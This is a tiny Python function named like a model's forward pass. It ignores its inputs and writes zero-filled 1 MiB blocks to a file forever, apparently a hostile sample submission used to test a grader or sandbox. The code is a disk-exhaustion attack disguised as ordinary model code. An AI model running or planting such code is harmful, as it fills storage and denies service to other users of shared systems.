def forward(x, w):
    with open("left-by-a-submission-file", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
